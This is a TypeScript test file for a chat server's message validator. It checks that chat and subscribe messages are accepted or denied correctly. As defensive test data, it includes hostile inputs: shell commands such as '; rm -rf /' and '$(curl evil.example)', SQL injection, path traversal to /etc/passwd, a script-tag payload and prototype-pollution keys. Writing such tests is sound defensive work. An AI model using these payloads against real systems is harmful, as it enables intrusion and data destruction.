import assert from 'node:assert/strict'
import { test } from 'node:test'
import { sentenceOf } from '../../src/policy/denials.ts'
import { format } from '../../src/controls/message/format.ts'
import { schema } from '../../src/controls/message/schema.ts'
import type { SchemaMap } from '../../src/model/schema-kinds.ts'
import { codeOf, connectionOf, policyWith, textOf } from './door-fixtures.ts'
import { SEED_SCHEMAS } from './seed-schemas.ts'

const ROOM = '3f2b8c1e-5d6a-4f7b-8c9d-0e1f2a3b4c5d'
const chat = (more: object = {}): string => JSON.stringify({ type: 'chat', message: 'hello', roomId: ROOM, ...more })
const subscribe = (channels: unknown, more: object = {}): string =>
  JSON.stringify({ type: 'subscribe', channels, ...more })

type Row = readonly [name: string, text: string, code: string, value?: unknown]

const rows: readonly Row[] = [
  ['an honest chat message', chat(), 'PASS', { type: 'chat', message: 'hello', roomId: ROOM }],
  ['an honest subscription', subscribe(['news', 'a1']), 'PASS', { type: 'subscribe', channels: ['news', 'a1'] }],
  ['an empty message', chat({ message: '' }), 'PASS'],
  ['no channels', subscribe([]), 'PASS'],
  ['999 characters', chat({ message: 'x'.repeat(999) }), 'PASS'],
  ['1000 characters', chat({ message: 'x'.repeat(1000) }), 'PASS'],
  ['1001 characters', chat({ message: 'x'.repeat(1001) }), 'SALLY_MESSAGE_INVALID'],
  ['9 channels', subscribe(Array<string>(9).fill('a')), 'PASS'],
  ['10 channels', subscribe(Array<string>(10).fill('a')), 'PASS'],
  ['11 channels', subscribe(Array<string>(11).fill('a')), 'SALLY_MESSAGE_INVALID'],
  ['markup in a message is data, for the page to escape', chat({ message: '<img src=x onerror=alert(1)>' }), 'PASS'],
  ['a shell command in roomId', chat({ roomId: '; rm -rf /' }), 'SALLY_MESSAGE_INVALID'],
  ['a shell command after a uuid', chat({ roomId: `${ROOM}; id` }), 'SALLY_MESSAGE_INVALID'],
  ['a command substitution in roomId', chat({ roomId: '$(curl evil.example)' }), 'SALLY_MESSAGE_INVALID'],
  ['SQL in roomId', chat({ roomId: '1 OR 1=1; DROP TABLE users' }), 'SALLY_MESSAGE_INVALID'],
  ['SQL before a uuid', chat({ roomId: `' OR '1'='1${ROOM}` }), 'SALLY_MESSAGE_INVALID'],
  ['a line break after a uuid', chat({ roomId: `${ROOM}\n` }), 'SALLY_MESSAGE_INVALID'],
  ['a path in roomId', chat({ roomId: '../../etc/passwd' }), 'SALLY_MESSAGE_INVALID'],
  ['an empty roomId', chat({ roomId: '' }), 'SALLY_MESSAGE_INVALID'],
  ['SQL in a channel', subscribe(["news' UNION SELECT password FROM users--"]), 'SALLY_MESSAGE_INVALID'],
  ['a backtick in a channel', subscribe(['`id`']), 'SALLY_MESSAGE_INVALID'],
  ['a glob in a channel', subscribe(['*']), 'SALLY_MESSAGE_INVALID'],
  ['a line break after a channel', subscribe(['news\n']), 'SALLY_MESSAGE_INVALID'],
  ['an empty channel', subscribe(['']), 'SALLY_MESSAGE_INVALID'],
  ['one bad channel among good', subscribe(['a', 'b', 'c d']), 'SALLY_MESSAGE_INVALID'],
  ['a NoSQL operator for roomId', chat({ roomId: { $ne: null } }), 'SALLY_MESSAGE_INVALID'],
  ['a list for roomId', chat({ roomId: [ROOM] }), 'SALLY_MESSAGE_INVALID'],
  ['a number for message', chat({ message: 1 }), 'SALLY_MESSAGE_INVALID'],
  ['null for message', chat({ message: null }), 'SALLY_MESSAGE_INVALID'],
  ['a message object with a length', chat({ message: { length: 1 } }), 'SALLY_MESSAGE_INVALID'],
  ['an array-like for channels', subscribe({ length: 1, 0: 'a' }), 'SALLY_MESSAGE_INVALID'],
  ['text for channels', subscribe('news'), 'SALLY_MESSAGE_INVALID'],
  ['no message', JSON.stringify({ type: 'chat', roomId: ROOM }), 'SALLY_MESSAGE_INVALID'],
  ['no channels field', JSON.stringify({ type: 'subscribe' }), 'SALLY_MESSAGE_INVALID'],
  [
    'the fields of the other type',
    JSON.stringify({ type: 'subscribe', message: 'x', roomId: ROOM }),
    'SALLY_MESSAGE_INVALID',
  ],
  ['an unknown type', chat({ type: 'deleteAccount' }), 'SALLY_MESSAGE_TYPE'],
  ["the seed's attack: action instead of type", '{"action":"deleteAccount"}', 'SALLY_MESSAGE_TYPE'],
  ['type in capitals', chat({ type: 'CHAT' }), 'SALLY_MESSAGE_TYPE'],
  ['type as a list', chat({ type: ['chat'] }), 'SALLY_MESSAGE_TYPE'],
  ['type null', chat({ type: null }), 'SALLY_MESSAGE_TYPE'],
  ['type an index', chat({ type: 0 }), 'SALLY_MESSAGE_TYPE'],
  ['type toString', chat({ type: 'toString' }), 'SALLY_MESSAGE_TYPE'],
  ['type constructor', chat({ type: 'constructor' }), 'SALLY_MESSAGE_TYPE'],
  ['type __proto__', chat({ type: '__proto__' }), 'SALLY_MESSAGE_TYPE'],
  ['no type', '{}', 'SALLY_MESSAGE_TYPE'],
  [
    'unknown fields go',
    chat({ isAdmin: true, role: 'admin' }),
    'PASS',
    { type: 'chat', message: 'hello', roomId: ROOM },
  ],
  ['unknown objects go', subscribe(['a'], { user: { id: 1 } }), 'PASS', { type: 'subscribe', channels: ['a'] }],
  ['__proto__ with the fields', `{"type":"chat","__proto__":{"message":"x","roomId":"${ROOM}"}}`, 'SALLY_MESSAGE_KEY'],
  ['__proto__ beside the fields', `${chat().slice(0, -1)},"__proto__":{"isAdmin":true}}`, 'SALLY_MESSAGE_KEY'],
  ['constructor beside the fields', chat({ constructor: { prototype: { isAdmin: true } } }), 'SALLY_MESSAGE_KEY'],
  ['type twice', `{"type":"chat",${subscribe(['a']).slice(1)}`, 'SALLY_MESSAGE_KEY'],
]

async function run(
  types: SchemaMap,
  text: string,
  unknownFields: 'strip' | 'refuse',
  allowKeys: readonly string[] = [],
) {
  const policy = policyWith({
    format: { data: 'json', depth: 32, width: 1000, allowKeys, bigIntegers: 'refuse' },
    schema: { types, discriminator: 'type', unknownFields },
  })
  const subject = textOf(text)
  for (const control of [format, schema]) {
    const verdict = await control.compile(policy)!(subject, connectionOf())
    if (!verdict.pass) return { code: codeOf(verdict), detail: sentenceOf(verdict), value: subject.value }
  }
  return { code: 'PASS', detail: '', value: subject.value }
}

for (const [kind, types] of Object.entries(SEED_SCHEMAS)) {
  for (const [name, text, code, value] of rows) {
    test(`${kind}: ${name}`, async () => {
      const result = await run(types, text, 'strip')
      assert.equal(result.code, code)
      if (value !== undefined) assert.deepEqual(result.value, value)
    })
  }

  test(`${kind}: the detail names the path, never the value`, async () => {
    const { detail } = await run(types, chat({ roomId: 'S3CRET-value' }), 'strip')
    assert.match(detail, /^chat: \/roomId [\w-]+$/)
    const deep = await run(types, subscribe(['ok', 'S3CRET value']), 'strip')
    assert.match(deep.detail, /^subscribe: \/channels\/1 [\w-]+$/)
  })

  test(`${kind}: refuse: an unknown field is a denial, an honest message is not`, async () => {
    assert.equal((await run(types, chat({ isAdmin: true }), 'refuse')).code, 'SALLY_MESSAGE_INVALID')
    assert.equal((await run(types, chat(), 'refuse')).code, 'PASS')
    assert.equal((await run(types, subscribe(['a']), 'refuse')).code, 'PASS')
  })

  test(`${kind}: an own __proto__, where keys are allowed, is stripped and sets no prototype`, async () => {
    const text = `${chat().slice(0, -1)},"__proto__":{"isAdmin":true}}`
    const { code, value } = await run(types, text, 'strip', ['__proto__'])
    assert.equal(code, 'PASS')
    assert.equal((value as { isAdmin?: unknown }).isAdmin, undefined)
    assert.deepEqual(Object.keys(value as object).toSorted(), ['message', 'roomId', 'type'])
  })

  test(`${kind}: inherited fields do not stand in for missing ones`, async t => {
    const prototype = Object.prototype as Record<string, unknown>
    prototype['type'] = 'chat'
    t.after(() => delete prototype['type'])
    assert.equal((await run(types, `{"message":"x","roomId":"${ROOM}"}`, 'strip')).code, 'SALLY_MESSAGE_TYPE')
  })
}
